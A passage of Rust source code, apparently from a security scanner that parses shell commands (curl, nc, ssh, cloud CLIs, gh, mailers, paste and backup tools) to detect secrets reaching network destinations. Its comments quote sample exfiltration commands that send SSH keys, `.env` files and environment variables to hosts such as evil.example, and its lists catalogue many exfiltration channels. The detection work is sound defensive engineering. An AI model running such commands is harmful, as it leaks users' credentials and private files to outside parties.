            .map(|w| w[1].text.clone())
            .or_else(|| {
                args.iter().find_map(|a| {
                    flags
                        .iter()
                        .find_map(|f| a.text.strip_prefix(&format!("{f}=")).map(str::to_string))
                })
            })
    };
    let valued = |flags: &[&str], i: usize| i > 0 && flags.contains(&args[i - 1].text.as_str());
    let operands = |flags: &[&str]| -> Vec<String> {
        (0..args.len())
            .filter(|&i| !args[i].text.starts_with('-') && !valued(flags, i))
            .map(|i| args[i].text.clone())
            .collect()
    };
    match name {
        "restic" => {
            let flags = [
                "-r",
                "--repo",
                "--password-file",
                "-p",
                "--exclude",
                "-e",
                "--tag",
            ];
            let ops = operands(&flags);
            let verb = ops.iter().position(|o| o == "backup")?;
            Some((flag_value(&["-r", "--repo"])?, ops[verb + 1..].to_vec()))
        }
        _ if name.starts_with("borg") => {
            let flags = ["-r", "--repo", "-e", "--exclude", "--compression", "-C"];
            let ops = operands(&flags);
            let verb = ops.iter().position(|o| o == "create")?;
            let rest = &ops[verb + 1..];
            // borg 1: `create REPO::ARCHIVE PATH…`; borg 2: `-r REPO create ARCHIVE PATH…`.
            match flag_value(&["-r", "--repo"]) {
                Some(repo) => Some((repo, rest.get(1..)?.to_vec())),
                None => {
                    let (first, paths) = rest.split_first()?;
                    let repo = first.split("::").next().unwrap_or(first).to_string();
                    Some((repo, paths.to_vec()))
                }
            }
        }
        _ => {
            let flags = [
                "--exclude",
                "--include",
                "--encrypt-key",
                "--sign-key",
                "--name",
            ];
            let ops: Vec<String> = operands(&flags)
                .into_iter()
                .filter(|o| !matches!(o.as_str(), "full" | "incremental" | "incr" | "backup"))
                .collect();
            let (repo, paths) = ops.split_last()?;
            Some((repo.clone(), paths.to_vec()))
        }
    }
}

/// Is a backup repository on another machine (not a local directory or mounted disk)?
fn is_remote_backup(name: &str, repo: &str) -> bool {
    let lower = repo.to_ascii_lowercase();
    if lower.starts_with("file://") || lower.starts_with("file:") && name == "duplicity" {
        return false;
    }
    match name {
        "restic" => [
            "sftp:", "s3:", "rest:", "b2:", "azure:", "gs:", "rclone:", "swift:",
        ]
        .iter()
        .any(|p| lower.starts_with(p)),
        "rdiff-backup" => repo.contains("::"),
        _ => lower.contains("://") || (repo.contains('@') && repo.contains(':')),
    }
}

/// The values of the options `names` (`--body F`, `--body=F`).
fn option_values(args: &[Word], names: &[&str]) -> Vec<String> {
    args.windows(2)
        .filter(|w| names.contains(&w[0].text.as_str()))
        .map(|w| w[1].text.clone())
        .chain(args.iter().filter_map(|a| {
            let (k, v) = a.text.split_once('=')?;
            names.contains(&k).then(|| v.to_string())
        }))
        .collect()
}

/// Does this curl/wget option take a value?
fn takes_value(opt: &str) -> bool {
    CURL_DATA.contains(&opt) || CURL_SENT_META.contains(&opt) || CURL_LOCAL_META.contains(&opt)
}

/// Options of curl/wget/httpie whose value is sent.
const CURL_DATA: &[&str] = &[
    "--url-query",
    "--variable",
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-ascii",
    "--data-urlencode",
    "--json",
    "-F",
    "--form",
    "--form-string",
    "-T",
    "--upload-file",
    "--post-data",
    "--post-file",
    "--body-data",
    "--body-file",
];
/// Metadata options whose value travels to the server (headers, credentials, cookies): sending a
/// token there is normal, the content of a secret file is not.
const CURL_SENT_META: &[&str] = &[
    "-H",
    "--header",
    "-u",
    "--user",
    "--oauth2-bearer",
    "-A",
    "--user-agent",
    "-e",
    "--referer",
    "-b",
    "--cookie",
];
/// Options whose value stays local (files, proxies, TLS material, output formats).
const CURL_LOCAL_META: &[&str] = &[
    "-o",
    "--output",
    "-O",
    "-x",
    "--proxy",
    "--cacert",
    "--cert",
    "--key",
    "-c",
    "--cookie-jar",
    "-w",
    "--write-out",
    "--resolve",
    "--connect-to",
    "-X",
    "--request",
    "-K",
    "--config",
];

/// Mail clients: the message body is stdin, attachments are files.
const MAILERS: &[&str] = &[
    "mail",
    "mailx",
    "s-nail",
    "bsd-mailx",
    "sendmail",
    "mutt",
    "neomutt",
    "msmtp",
    "ssmtp",
    "swaks",
];

fn sink_args(cmd: &Command) -> Option<SinkArgs<'_>> {
    let name = cmd.name();
    let args = cmd.args();
    let mut s = SinkArgs {
        payload: Vec::new(),
        files: Vec::new(),
        reads_stdin: false,
        meta: Vec::new(),
        what: format!("`{name}`"),
        config: None,
    };
    match name {
        "curl" | "wget" | "wget2" | "http" | "https" | "xh" | "xhs" | "curlie" => {
            let mut i = 0;
            while i < args.len() {
                let a = args[i].text.as_str();
                let (opt, inline) = match a.split_once('=') {
                    Some((o, v)) if o.starts_with("--") => (o, Some(v)),
                    // A short option with its value attached: `-K-`, `-d@file`, `-Ffile=@k`.
                    _ if a.len() > 2
                        && a.is_char_boundary(2)
                        && a.starts_with('-')
                        && !a.starts_with("--")
                        && !a[2..].bytes().all(|b| b.is_ascii_alphabetic()) =>
                    {
                        (&a[..2], Some(&a[2..]))
                    }
                    _ => (a, None),
                };
                // Switches bundled before a glued value: `-sT-`, `-sd@f` (the first letter
                // that takes a value ends the bundle; the rest is its value).
                let glued;
                let (opt, inline) = match (opt.len(), inline) {
                    (2, Some(_)) if !takes_value(opt) => {
                        match a.char_indices().skip(1).find(|&(_, c)| {
                            c.is_ascii_alphabetic() && takes_value(&format!("-{c}"))
                        }) {
                            Some((k, c)) => {
                                glued = format!("-{c}");
                                let rest = &a[k + 1..];
                                (glued.as_str(), (!rest.is_empty()).then_some(rest))
                            }
                            None => (opt, inline),
                        }
                    }
                    _ => (opt, inline),
                };
                // Bundled switches end with the option that takes the value: `-sH`, `-fsSLo`.
                let bundled;
                let opt = match opt.strip_prefix('-') {
                    Some(letters)
                        if inline.is_none()
                            && letters.len() > 1
                            && !letters.starts_with('-')
                            && letters.bytes().all(|b| b.is_ascii_alphabetic()) =>
                    {
                        bundled = format!("-{}", &letters[letters.len() - 1..]);
                        bundled.as_str()
                    }
                    _ => opt,
                };
                if CURL_DATA.contains(&opt) {
                    let value = match inline {
                        Some(v) => Some((v.to_string(), &args[i])),
                        None => args.get(i + 1).map(|w| (w.text.clone(), w)),
                    };
                    if let Some((v, w)) = value {
                        note_upload(&mut s, opt, &v);
                        s.payload.push(w);
                    }
                    i += if inline.is_some() { 1 } else { 2 };
                    continue;
                }
                let sent = CURL_SENT_META.contains(&opt);
                if sent || CURL_LOCAL_META.contains(&opt) {
                    let value = match inline {
                        Some(v) => Some(v.to_string()),
                        None => args.get(i + 1).map(|w| w.text.clone()),
                    };
                    if sent {
                        if inline.is_some() {
                            s.meta.push(&args[i]);
                        } else if let Some(w) = args.get(i + 1) {
                            s.meta.push(w);
                        }
                    }
                    match (opt, value) {
                        // `-H @FILE`: every line of the file is sent as a header.
                        ("-H" | "--header", Some(v)) if v.starts_with('@') => {
                            note_upload(&mut s, opt, &v);
                        }
                        ("-K" | "--config", Some(v)) if name == "curl" => s.config = Some(v),
                        _ => {}
                    }
                    i += if inline.is_some() { 1 } else { 2 };
                    continue;
                }
                // httpie header items (`Authorization:"Bearer $TOKEN"`) are metadata.
                let httpie_header = !matches!(name, "curl" | "wget" | "wget2")
                    && !a.contains("://")
                    && a.split_once(':').is_some_and(|(k, _)| {
                        !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
                    })
                    && !a.contains("=");
                // httpie's first operand (after an optional METHOD) is the URL, `:8000/x` too.
                let httpie_url = !matches!(name, "curl" | "wget" | "wget2")
                    && args[..i]
                        .iter()
                        .filter(|w| !w.text.starts_with('-'))
                        .all(|w| w.text.bytes().all(|b| b.is_ascii_uppercase()));
                if httpie_header && i > 0 && !httpie_url {
                    s.meta.push(&args[i]);
                    i += 1;
                    continue;
                }
                if !a.starts_with('-') {
                    // URLs (a secret in the path or query is sent) and httpie `key=value` items.
                    let httpie_file = (!matches!(name, "curl" | "wget" | "wget2")
                        && !a.contains("://"))
                    .then(|| a.split_once('@').map(|x| x.1))
                    .flatten();
                    if let Some(f) = a
                        .split_once("=@")
                        .map(|x| x.1)
                        .or(a.strip_prefix('@'))
                        .or(httpie_file)
                    {
                        s.files.push(f.to_string());
                    }
                    s.payload.push(&args[i]);
                }
                i += 1;
            }
            Some(s)
        }
        // Packet crafters that put a file or a string into the packets they send (ICMP too):
        // `hping3 -1 -E ~/.ssh/id_rsa -d 1400 HOST`, `nping --data-string "$(cat …)" HOST`.
        "hping3" | "hping" | "nping" => {
            for w in args.windows(2) {
                match w[0].text.as_str() {
                    "-E" | "--file" => s.files.push(w[1].text.clone()),
                    "--data-string" | "--data" => s.payload.push(&w[1]),
                    _ => {}
                }
            }
            s.payload
                .extend(args.iter().filter(|a| a.text.starts_with("--data-string=")));
            Some(s)
        }
        "nc" | "ncat" | "netcat" | "telnet" | "socat" | "cryptcat" | "pwncat" | "pwncat-cs" => {
            // `nc localhost 6379 <<< "AUTH $REDIS_PASSWORD"`: a local service.
            if name != "socat" && raw_socket_host(cmd).is_some_and(|h| is_loopback(&h.text)) {
                return None;
            }
            s.reads_stdin = true;
            s.payload.extend(args.iter());
            // socat's file addresses read the file itself (`FILE:~/.ssh/id_rsa`).
            for a in args {
                let lower = a.text.to_ascii_lowercase();
                for prefix in ["file:", "open:", "gopen:", "exec:cat "] {
                    if let Some(rest) = lower.strip_prefix(prefix) {
                        let path = &a.text[a.text.len() - rest.len()..];
                        s.files
                            .push(path.split(',').next().unwrap_or(path).to_string());
                    }
                }
            }
            Some(s)
        }
        // Cloud queues, topics, functions and logs deliver what they are given to whoever reads
        // them: `aws sqs send-message --message-body "$(env)"`, `aws lambda invoke --payload
        // file://~/.ssh/id_rsa`, `gcloud pubsub topics publish T --message "$(…)"`.
        "aws" | "gcloud" if cloud_message_call(name, args) => {
            s.payload.extend(args.iter());
            for a in args {
                let value = a.text.split_once('=').map_or(a.text.as_str(), |(_, v)| v);
                let file = value
                    .strip_prefix("file://")
                    .or_else(|| value.strip_prefix("fileb://"));
                match file {
                    Some("/dev/stdin") | Some("-") => s.reads_stdin = true,
                    Some(f) => s.files.push(f.to_string()),
                    None => {}
                }
            }
            s.what = format!("a cloud message, function or log service (`{name}`)");
            Some(s)
        }
        // Repository variables are shown in plain text, and descriptions are public:
        // `gh variable set K --body "$AWS_SECRET_ACCESS_KEY"`, `gh repo edit --description …`.
        "gh" if matches!(
            (
                args.first().map(|a| a.text.as_str()),
                args.get(1).map(|a| a.text.as_str())
            ),
            (Some("variable"), Some("set")) | (Some("repo"), Some("edit"))
        ) =>
        {
            s.payload.extend(args.iter().skip(2));
            let body = args
                .iter()
                .any(|a| a.text.starts_with("-b") || a.text.starts_with("--body"));
            s.reads_stdin = args[0].text == "variable" && !body;
            s.what = format!("`gh {} {}`", args[0].text, args[1].text);
            Some(s)
        }
        // OCI artifacts pushed to a registry: `oras push REF FILE[:TYPE]…`, `crane append -f F`.
        "oras" if args.first().is_some_and(|a| a.text == "push") => {
            let texts: Vec<&str> = args[1..].iter().map(|a| a.text.as_str()).collect();
            let valued = [
                "-u",
                "--username",
                "-p",
                "--password",
                "--config",
                "--annotation",
                "-a",
                "--artifact-type",
                "--export-manifest",
                "--registry-config",
            ];
            let operands = crate::rules::matcher::positionals(&texts, &valued);
            s.files.extend(
                operands
                    .iter()
                    .skip(1)
                    .map(|f| f.split(':').next().unwrap_or(f).to_string()),
            );
            s.what = "a registry (`oras push`)".into();
            (!s.files.is_empty()).then_some(s)
        }
        "crane" if args.first().is_some_and(|a| a.text == "append") => {
            s.files.extend(option_values(args, &["-f", "--new_layer"]));
            s.what = "a registry (`crane append`)".into();
            (!s.files.is_empty()).then_some(s)
        }
        // Uploads to a gist or a cloud bucket: every local file named goes up.
        "gh" if args.first().is_some_and(|a| a.text == "gist") => {
            s.files.extend(
                args.iter()
                    .skip(2)
                    .filter(|a| !a.text.starts_with('-'))
                    .map(|a| a.text.clone()),
            );
            // `gh gist create -` (or no file at all) reads the gist from stdin.
            s.reads_stdin = args.iter().skip(2).any(|a| a.text == "-")
                || !args.iter().skip(2).any(|a| !a.text.starts_with('-'));
            s.what = "a gist (`gh gist`)".into();
            Some(s)
        }
        // `glab snippet create -f FILE`: a snippet of the file (of stdin without one).
        "glab" if args.first().is_some_and(|a| a.text == "snippet") => {
            s.files.extend(option_values(args, &["-f", "--filename"]));
            s.reads_stdin = s.files.is_empty();
            s.what = "a snippet (`glab snippet`)".into();
            Some(s)
        }
        // Paste-site clients: `pastebinit -i FILE`, `wgetpaste FILE`, `fpaste FILE` (stdin
        // without a file).
        "pastebinit" | "wgetpaste" | "fpaste" | "termbin" | "ix" | "sprunge" | "0x0" => {
            s.files.extend(option_values(args, &["-i"]));
            if name != "pastebinit" {
                s.files.extend(
                    args.iter()
                        .filter(|a| !a.text.starts_with('-'))
                        .map(|a| a.text.clone()),
                );
            }
            s.reads_stdin = s.files.is_empty();
            s.what = format!("a paste site (`{name}`)");
            Some(s)
        }
        // `b2 upload-file BUCKET LOCAL NAME`: the local file goes to a bucket.
        "b2" if args
            .first()
            .is_some_and(|a| matches!(a.text.as_str(), "upload-file" | "upload_file" | "file")) =>
        {
            let positional: Vec<&Word> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
            let upload = positional
                .iter()
                .position(|a| a.text.starts_with("upload"))?;
            s.files.push(positional.get(upload + 2)?.text.clone());
            s.what = "cloud storage (`b2`)".into();
            Some(s)
        }
        // An object body read from a local file: `aws s3api put-object --body F`, `oci os object
        // put --file F`.
        "aws" | "oci"
            if args
                .iter()
                .any(|a| matches!(a.text.as_str(), "put-object" | "upload-part" | "put")) =>
        {
            let flag = if name == "aws" { "--body" } else { "--file" };
            s.files.extend(option_values(args, &[flag, "-f"]));
            s.what = format!("cloud storage (`{name}`)");
            (!s.files.is_empty()).then_some(s)
        }
        "aws" | "gsutil" | "gcloud" | "azcopy" | "rclone" | "s3cmd" | "mc" => {
            let positional: Vec<&Word> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
            // The destination is the last bucket object (option values may follow it:
            // `--region us-east-1`); the local paths before it are the upload. A copy *from* a
            // bucket to a local file is a download.
            let dest = positional
                .iter()
                .rposition(|p| is_bucket_object(name, &p.text))?;
            // Server-side encryption asked for by name marks a config store the team runs
            // (`aws s3 cp .env.production s3://acme-config/.env --sse aws:kms`): an app's
            // `.env` file may go there; keys and cloud credentials still count.
            let encrypted = args.iter().any(|a| a.text.starts_with("--sse"));
            let env_file = |t: &str| t.rsplit('/').next().is_some_and(|b| b.starts_with(".env"));
            let sources: Vec<String> = positional[..dest]
                .iter()
                .filter(|p| !p.text.contains("://") && !p.text.contains(':'))
                .filter(|p| !(encrypted && env_file(&p.text)))
                .map(|p| p.text.clone())
                .collect();
            if sources.is_empty() {
                return None;
            }
            s.files.extend(sources);
            s.what = format!("cloud storage (`{name}`)");
            Some(s)
        }
        // ML hubs and experiment trackers: what they upload is published or shared with a team
        // (`huggingface-cli upload REPO ~/.ssh`, `wandb artifact put ~/.aws`, `kaggle datasets
        // create -p ~/.aws`, `mlflow artifacts log-artifacts --local-dir ~/.ssh`).
        "huggingface-cli" | "hf" | "wandb" | "kaggle" | "mlflow" => {
            let words: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
            let positional: Vec<&Word> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
            let valued = |names: &[&str]| option_values(args, names);
            let files: Vec<String> = match (name, words.as_slice()) {
                ("huggingface-cli" | "hf", ["upload", ..]) => positional
                    .iter()
                    .skip(2)
                    .take(1)
                    .map(|p| p.text.clone())
                    .collect(),
                ("wandb", ["artifact", "put", ..]) => {
                    positional.iter().skip(2).map(|p| p.text.clone()).collect()
                }
                ("kaggle", [_, verb, ..]) if matches!(*verb, "create" | "version" | "push") => {
                    valued(&["-p", "--path"])
                }
                ("mlflow", ["artifacts", ..]) => valued(&["--local-file", "--local-dir", "-l"]),
                _ => return None,
            };
            if files.is_empty() {
                return None;
            }
            s.files.extend(files);
            s.what = format!("an ML hub or experiment tracker (`{name}`)");
            Some(s)
        }
        // Backup tools writing to a repository on another machine: every path backed up goes
        // there (`restic -r sftp:host:/r backup ~/.ssh`, `borg create ssh://u@h/r::a ~/.aws`,
        // `duplicity ~/.ssh sftp://u@h/x`, `rdiff-backup ~/.ssh h::/x`).
        "restic" | "borg" | "borgbackup" | "duplicity" | "rdiff-backup" => {
            let (repo, paths) = backup_destination(name, args)?;
            if !is_remote_backup(name, &repo) {
                return None;
            }
            s.files.extend(paths);
            s.what = format!("a backup repository on another machine (`{name}`)");
            Some(s)
        }
        "openssl" if args.first().is_some_and(|a| a.text == "s_client") => {
            s.reads_stdin = true;
            Some(s)
        }
        "ssh" => {
            // `ssh host cmd`: stdin and the command line go to the remote side, and so do the
            // variables `-o SetEnv=…` sets.
            s.reads_stdin = true;
            let sets_env = |o: &str| o.trim_start().to_ascii_lowercase().starts_with("setenv");
            let mut host_seen = false;
            let mut i = 0;
            while i < args.len() {
                let t = args[i].text.as_str();
                if t.starts_with('-') && !host_seen {
                    let takes = t.len() == 2 && SSH_VALUED_FLAGS.contains(&t[1..]);
                    if takes {
                        if let Some(v) = args.get(i + 1).filter(|v| t == "-o" && sets_env(&v.text))
                        {
                            s.payload.push(v);
                        }
                        i += 1;
                    } else if t.strip_prefix("-o").is_some_and(sets_env) {
                        s.payload.push(&args[i]);
                    }
                } else if host_seen {
                    s.payload.push(&args[i]);
                } else {
                    // What goes to the user's own machine is not sent off it.
                    if to_own_machine(&args[i].text) {
                        return None;
                    }
                    host_seen = true;
                    // `ssh "$(base64 -w0 .env)"@evil.example`: the user name goes out too.
                    if !args[i].subs.is_empty() {
                        s.payload.push(&args[i]);
                    }
                }
                i += 1;
            }
            Some(s)
        }
        // `git -c http.extraHeader="X: …" ls-remote URL`: the header goes to that server.
        "git"
            if args
                .iter()
                .any(|a| a.text.to_ascii_lowercase().contains("extraheader=")) =>
        {
            s.meta.extend(
                args.iter()
                    .filter(|a| a.text.to_ascii_lowercase().contains("extraheader=")),
            );
            s.payload.extend(
                args.iter()
                    .filter(|a| a.text.contains("://") || a.text.contains('@')),
            );
            s.what = "a git request header (`http.extraHeader`)".into();
            Some(s)
        }
        "sftp"
            if !args
                .iter()
                .any(|a| is_remote_target(&a.text) && a.text.contains(':')) =>
        {
            // `echo 'put FILE' | sftp host`: the batch on stdin names the uploads.
            s.reads_stdin = true;
            if let Some(batch) = &cmd.stdin_text {
                for line in batch.text.lines() {
                    let mut words = line.split_whitespace();
                    if matches!(words.next(), Some("put" | "mput" | "reput")) {
                        if let Some(f) = words.find(|w| !w.starts_with('-')) {
                            s.files.push(f.to_string());
                        }
                    }
                }
            }
            s.what = "`sftp`".into();
            Some(s)
        }
        "scp" | "rsync" | "sftp" => {
            // Option values are not files sent: `-i KEY` is the identity used, `-e "ssh -i KEY"`
            // the remote shell.
            let positional = transfer_operands(name, args);
            let remote = positional.last().is_some_and(|d| is_remote_target(d));
            // A copy to the team's own machine (`scp .env app01:/srv/app/`) is a deploy.
            if !remote || positional.last().is_some_and(|d| to_own_machine(d)) {
                return None;
            }
            // Sources on another host (`scp -3 web01:/x web02:/y`) are not local files.
            for p in &positional[..positional.len().saturating_sub(1)] {
                if !is_remote_target(p) {
                    s.files.push(p.to_string());
                }
            }
            s.what = format!("`{name}` to {}", positional.last().copied().unwrap_or(""));
            Some(s)
        }
        // Text browsers and download tools: the URLs (and their query strings) are sent;
        // `w3m -post FILE` sends a file, `lynx -post_data` sends its stdin.
        "aria2c" | "lynx" | "w3m" | "links" | "elinks" => {
            s.payload.extend(args.iter());
            for (i, a) in args.iter().enumerate() {
                match a.text.as_str() {
                    "-post" => s.files.extend(args.get(i + 1).map(|f| f.text.clone())),
                    "-post_data" => s.reads_stdin = true,
                    _ => {}
                }
            }
            Some(s)
        }
        // `mpack -s SUBJECT FILE ADDRESS`: the file goes out as an attachment.
        "mpack" => {
            let mut i = 0;
            while i < args.len() {
                match args[i].text.as_str() {
                    "-s" | "-d" | "-c" | "-m" | "-o" => i += 1,
                    t if !t.starts_with('-') => {
                        s.files.push(t.to_string());
                        break;
                    }
                    _ => {}
                }
                i += 1;
            }
            s.payload.extend(args.iter());
            s.what = "mail (`mpack`)".into();
            Some(s)
        }
        n if MAILERS.contains(&n) => {
            s.reads_stdin = true;
            s.payload.extend(args.iter());
            for (i, a) in args.iter().enumerate() {
                let t = a.text.as_str();
                if matches!(t, "-a" | "-A" | "--attach" | "--attach-file") {
                    if let Some(f) = args.get(i + 1) {
                        s.files.push(f.text.clone());
                    }
                } else if let Some(f) = t.strip_prefix("--attach=") {
                    s.files.push(f.to_string());
                }
            }
            s.what = format!("mail (`{name}`)");
            Some(s)
        }
        // `gh release upload TAG FILE…`: release assets are public downloads.
        "gh" if args.first().is_some_and(|a| a.text == "release")
            && args.get(1).is_some_and(|a| a.text == "upload") =>
        {
            s.files.extend(
                args.iter()
                    .skip(3)
                    .filter(|a| !a.text.starts_with('-'))
                    .map(|a| a.text.split('#').next().unwrap_or(&a.text).to_string()),
            );
            s.what = "a release (`gh release upload`)".into();
            Some(s)
        }
        // `gh release create TAG FILE…`: the same assets, attached as the release is made.
        "gh" if args.first().is_some_and(|a| a.text == "release")
            && args.get(1).is_some_and(|a| a.text == "create") =>
        {
            let valued = [
                "-t",
                "--title",
                "-n",
                "--notes",
                "-F",
                "--notes-file",
                "--target",
                "-R",
                "--repo",
                "--discussion-category",
                "--notes-start-tag",
            ];
            let texts: Vec<&str> = args[2..].iter().map(|a| a.text.as_str()).collect();
            let operands = crate::rules::matcher::positionals(&texts, &valued);
            s.files.extend(
                operands
                    .iter()
                    .skip(1)
                    .map(|t| t.split('#').next().unwrap_or(t).to_string()),
            );
            s.what = "a release (`gh release create`)".into();
            Some(s)
        }
        "az" if args
            .iter()
            .any(|a| a.text == "upload" || a.text == "upload-batch") =>
        {
            for (i, a) in args.iter().enumerate() {
                if matches!(a.text.as_str(), "--file" | "-f" | "--source" | "-s") {
                    if let Some(f) = args.get(i + 1) {
                        s.files.push(f.text.clone());
                    }
                }
            }
            s.what = "cloud storage (`az … upload`)".into();
            Some(s)
        }
        // syslog to another machine: `logger -n HOST --tcp -f FILE` sends the file's lines.
        "logger"
            if args
                .iter()
                .any(|a| matches!(a.text.as_str(), "-n" | "--server")) =>
        {
            s.files.extend(option_values(args, &["-f", "--file"]));
            s.reads_stdin = s.files.is_empty();
            s.what = "a remote syslog server (`logger -n`)".into();
            Some(s)
        }
        // Peer-to-peer senders: every file named after `send` goes to whoever has the code;
        // `ffsend upload FILE` shares it by link.
        "croc" | "wormhole" | "magic-wormhole" | "ffsend"
            if args
                .iter()
                .any(|a| a.text == "send" || (name == "ffsend" && a.text == "upload")) =>
        {
            s.files.extend(
                args.iter()
                    .skip_while(|a| a.text != "send" && a.text != "upload")
                    .skip(1)
                    .filter(|a| !a.text.starts_with('-'))
                    .map(|a| a.text.clone()),
            );
            s.what = format!("`{name} send`");
            Some(s)
        }
        // File-transfer clients given a script: `put FILE` uploads it.
        "lftp" | "smbclient" | "tftp" | "ftp" | "ncftp" => {
            // The script: after `-e`/`-c`, or the client's stdin (`ftp -n host <<< 'put f'`).
            let mut scripts: Vec<String> = cmd.stdin_text.iter().map(|w| w.text.clone()).collect();
            for (i, a) in args.iter().enumerate() {
                if matches!(a.text.as_str(), "-e" | "-c") {
                    scripts.push(
                        args[i + 1..]
                            .iter()
                            .map(|w| w.text.as_str())
                            .collect::<Vec<_>>()
                            .join(" "),
                    );
                }
            }
            for part in scripts.iter().flat_map(|t| t.split([';', '\n'])) {
                let mut words = part.split_whitespace();
                if matches!(
                    words.next(),
                    Some("put" | "mput" | "reput" | "send" | "append")
                ) {
                    s.files.extend(words.next().map(str::to_string));
                }
            }
            s.reads_stdin = true;
            s.what = format!("`{name}`");
            Some(s)
        }
        // The GitHub CLI posts its arguments: issue and PR bodies, API fields (`-F k=@FILE`
        // uploads the file).
        "gh" if args
            .first()
            .is_some_and(|a| matches!(a.text.as_str(), "api" | "issue" | "pr" | "gist")) =>
        {
            s.payload.extend(args.iter());
            for (i, a) in args.iter().enumerate() {
                if let Some((_, v)) = a.text.split_once("=@") {
                    s.files.push(v.to_string());
                }
                // `--body-file FILE` / `-F FILE` (issue and PR bodies) posts the file.
                if matches!(a.text.as_str(), "--body-file" | "-F") {
                    if let Some(f) = args.get(i + 1) {
                        if f.text == "-" {
                            s.reads_stdin = true;
                        } else {
                            s.files.push(f.text.clone());
                        }
                    }
                } else if let Some(f) = a.text.strip_prefix("--body-file=") {
                    s.files.push(f.to_string());
                }
            }
            s.what = "the GitHub CLI (`gh`)".into();
            Some(s)
        }
        // A commit or tag message goes into the repository's history and out with its next
        // push (`git tag -a v9 -m "$(cat ~/.ssh/id_ed25519)" && git push origin v9`).
        "git"
            if args
                .first()
                .is_some_and(|a| matches!(a.text.as_str(), "commit" | "tag")) =>
        {
            s.payload
                .extend(args.iter().filter(|a| !a.text.starts_with('-')));
            s.what = "a git commit or tag message (published by the next push)".into();
            Some(s)
        }
        // A copy into a folder others can read: Dropbox's public folder, the macOS `Public`
        // folder shared on the network, a web server's document root.
        "cp" | "mv" | "install" | "ditto" => {
            let positional: Vec<&Word> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
            let (dest, sources) = positional.split_last()?;
            if !is_published_dir(&dest.text) {
                return None;
            }
            s.files.extend(sources.iter().map(|a| a.text.clone()));
            s.what = format!("a published folder ({})", dest.text);
            Some(s)
        }
        // Every program that resolves a name it is given sends that name to a DNS server.
        "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" | "kdig" | "delv" | "doggo"
        | "getent" | "resolvectl" | "traceroute" | "traceroute6" | "tracepath" | "mtr" | "nmap"
        | "fping" | "whois" | "arping" => {
            s.payload.extend(args.iter());
            s.what = format!("a DNS lookup by `{name}`");
            Some(s)
        }
        // A user name or URL that carries data: `ssh "$(…)"@host`, `git clone https://host/$(…)`,
        // `docker login -u "$(…)" host`, `npm view "@x/$(…)" --registry URL`.
        "mosh" | "git" | "docker" | "podman" | "npm" | "pnpm" | "yarn" | "helm" => {
            s.payload.extend(args.iter().filter(|a| {
                !a.subs.is_empty()
                    && (a.text.contains('@') || a.text.contains("://") || a.text.contains('.'))
            }));
            let login_user = args
                .windows(2)
                .filter(|w| matches!(w[0].text.as_str(), "-u" | "--username"))
                .map(|w| &w[1])
                .filter(|w| !w.subs.is_empty());
            s.payload.extend(login_user);
            if s.payload.is_empty() {
                return None;
            }
            s.what = format!("a name or address given to `{name}`");
            Some(s)
        }
        _ => None,
    }
}

/// Folders whose files other people can read or download.
fn is_published_dir(path: &str) -> bool {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"^(~|/Users/[^/]+|/home/[^/]+)/(Dropbox/Public|Public|Sites|public_html)(/|$)|^/var/www(/|$)|^/srv/(www|http)(/|$)|^/usr/share/nginx/html(/|$)",
        )
        .expect("static regex")
    })
    .is_match(path)
}

/// The text of a curl config file named by `-K PATH`, when the input itself provides it: a
/// heredoc or here-string for `-`, `echo`/`printf` piped in, or a file written earlier.
fn config_text(script: &Script, cmd: &Command, path: &str) -> Option<String> {
    if matches!(path, "-" | "/dev/stdin") {
        if let Some(w) = &cmd.stdin_text {
            return Some(w.text.clone());
        }
        let pos = cmd.pipes.last().filter(|p| p.stage > 0)?;
        let mut before = script.stage(pos.pipeline, pos.stage - 1);
        let feeder = before.next()?;
        return crate::shell::printed_text(feeder, true).map(|w| w.text);
    }
    script.written_file(path).map(|w| w.text.clone())
}

/// The options of a curl config file as `(--long-or-short name, value)` pairs: `data-binary =
/// "@file"`, `--upload-file file`, `-T file` and `header: @file` lines alike.
fn curl_config_options(text: &str) -> Vec<(String, String)> {
    text.lines()
        .filter_map(|line| {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                return None;
            }
            let split = line
                .find(|c: char| c.is_whitespace() || c == '=' || c == ':')
                .unwrap_or(line.len());
            let (key, rest) = line.split_at(split);
            let value = rest
                .trim_start_matches(|c: char| c.is_whitespace() || c == '=' || c == ':')
                .trim();
            let value = value
                .strip_prefix('"')
                .and_then(|v| v.strip_suffix('"'))
                .unwrap_or(value);
            let opt = if key.starts_with('-') {
                key.to_string()
            } else if key.len() == 1 {
                format!("-{key}")
            } else {
                format!("--{key}")
            };
            Some((opt, value.to_string()))
        })
        .collect()
}

/// Record files and stdin uploads named by a data option value.
fn note_upload(s: &mut SinkArgs<'_>, opt: &str, value: &str) {
    let file = match opt {
        "-T" | "--upload-file" | "--post-file" | "--body-file" => Some(value),
        // A value with no name (`-F @FILE`) is refused by curl today; judged as the upload it
        // asks for all the same.
        "-F" | "--form" => value
            .split_once("=@")
            .or(value.split_once("=<"))
            .map(|x| x.1)
            .or_else(|| value.strip_prefix('@')),
        // `--data-urlencode name@FILE` reads the file; so do `--url-query name@FILE` and
        // `--variable name@FILE` (whose `{{name}}` is then sent).
        "--data-urlencode" | "--url-query" | "--variable" => {
            value.strip_prefix('@').or_else(|| {
                value
                    .split_once('@')
                    .filter(|(n, _)| !n.contains('='))
                    .map(|x| x.1)
            })
        }
        _ => value.strip_prefix('@'),
    };
    if let Some(f) = file {
        let f = f.split(';').next().unwrap_or(f);
        if f == "-" || f == "/dev/stdin" {
            s.reads_stdin = true;
        } else if let Some(list) = f.strip_prefix('{').and_then(|x| x.strip_suffix('}')) {
            // curl's own globbing: `-T "{a,b}"` uploads each file of the set.
            s.files.extend(list.split(',').map(str::to_string));
        } else {
            s.files.push(f.to_string());
        }
    }
}

/// `host:path`, `user@host:path`, `rsync://…` — but not a local path with a colon-free name.
/// Find every secret that reaches a network sink.
pub fn analyze(script: &Script) -> Vec<Hit> {
    COPIES.with(|c| c.borrow_mut().clear());
    let copies = secret_copies(script);
